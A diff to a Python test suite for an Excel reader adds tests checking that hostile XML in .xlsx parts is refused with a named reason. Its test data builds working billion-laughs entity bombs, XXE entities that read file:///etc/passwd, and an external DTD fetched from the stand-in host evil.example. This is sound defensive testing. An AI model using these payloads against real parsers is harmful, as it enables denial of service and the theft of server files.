@@ -286,7 +286,8 @@ def test_xml_bomb_and_zip_expansion_are_refused() -> None:
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
         for item in src.infolist():
             dst.writestr(item, bomb if item.filename == "xl/worksheets/sheet1.xml" else src.read(item.filename))
-    assert "not a valid Excel file" in str(rejected("bomb.xlsx", out.getvalue()))
+    err = rejected("bomb.xlsx", out.getvalue())  # refused, saying what and why (issue 13 item 17)
+    assert "refused for safety" in str(err) and "billion laughs" in str(err) and err.kind == "unsafe_xml"
     assert "when unzipped; max 1 KB" in str(rejected("s.xlsx", data, limits=Limits(max_unzipped_bytes=1024)))
 
 
@@ -346,3 +347,66 @@ def test_bidi_controls_are_removed_from_file_names_and_typed_names() -> None:
     assert text_field(" Plan\u202e A ", "a version name", 40) == "Plan A"
     with pytest.raises(ValueError, match="is required"):
         text_field("\u202e\u200f", "a title", 40)
+
+
+# -- issue 13 item 17: XXE and entity bombs are named -------------------------------------------------------
+
+LOL = '<!ENTITY lol "lol">' + "".join(
+    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
+SHEET = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
+         '<c r="A1" t="inlineStr"><is><t>{cell}</t></is></c></row></sheetData></worksheet>')
+HOSTILE_XML = {
+    "billion laughs": (f'<?xml version="1.0"?><!DOCTYPE lolz [{LOL}]>' + SHEET.format(cell="&lol9;"),
+                       "10 entity declarations — text that expands into more text (a 'billion laughs' bomb"),
+    "xxe file": ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+                 + SHEET.format(cell="&xxe;"), "an external entity — a reference to a file or address outside"),
+    "xxe url": ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p PUBLIC "x" "http://evil.example/x.dtd"> %p;]>'
+                + SHEET.format(cell="x"), "an external entity"),
+    "dtd only": ('<?xml version="1.0"?><!DOCTYPE worksheet>' + SHEET.format(cell="x"),
+                 "a document type declaration (DTD)"),
+    "utf-16 xxe": ('\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+                   + SHEET.format(cell="&xxe;"), "an external entity"),
+}
+
+
+def _with_part(part: str, content: bytes) -> bytes:
+    """A valid one-sheet workbook whose XML part `part` is replaced by `content`."""
+    import zipfile
+
+    data = xlsx({"S": [["sku", "qty"], ["A", 1]]})
+    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            dst.writestr(item, content if item.filename == part else src.read(item.filename))
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml",
+                                  "docProps/core.xml", "xl/_rels/workbook.xml.rels"])
+@pytest.mark.parametrize("attack", list(HOSTILE_XML))
+def test_xxe_and_entity_bombs_are_refused_saying_what_and_why(attack: str, part: str) -> None:
+    text, why = HOSTILE_XML[attack]
+    content = text.encode("utf-16") if attack.startswith("utf-16") else text.encode()
+    err = rejected("evil.xlsx", _with_part(part, content))
+    assert err.kind == "unsafe_xml" and "ValueError" not in str(err)
+    assert str(err).startswith(f"evil.xlsx: refused for safety: part {part} of the workbook declares ")
+    assert why in str(err) and "nothing in it was read" in str(err) and "Excel never writes these" in str(err)
+
+
+def test_a_refusal_found_only_by_the_parser_is_named_too() -> None:
+    """Defence in depth: a DTD past the scanned head still reaches defusedxml, whose refusal is named."""
+    from defusedxml import EntitiesForbidden
+
+    from sop_core.readers import _excel_error
+
+    try:
+        try:
+            raise EntitiesForbidden("lol", None, None, None, None, None)
+        except EntitiesForbidden as inner:
+            raise ValueError("Unable to read workbook: could not read worksheets") from inner
+    except ValueError as wrapped:
+        err = _excel_error("x.xlsx", wrapped)
+    assert err.kind == "unsafe_xml" and "billion laughs" in str(err) and "refused for safety" in str(err)
+    padded = '<?xml version="1.0"?>' + "<!-- pad -->" * 7000 + f"<!DOCTYPE lolz [{LOL}]>" + SHEET.format(cell="&lol9;")
+    err = rejected("late.xlsx", _with_part("xl/worksheets/sheet1.xml", padded.encode()))
+    assert err.kind == "unsafe_xml" and "ValueError" not in str(err)
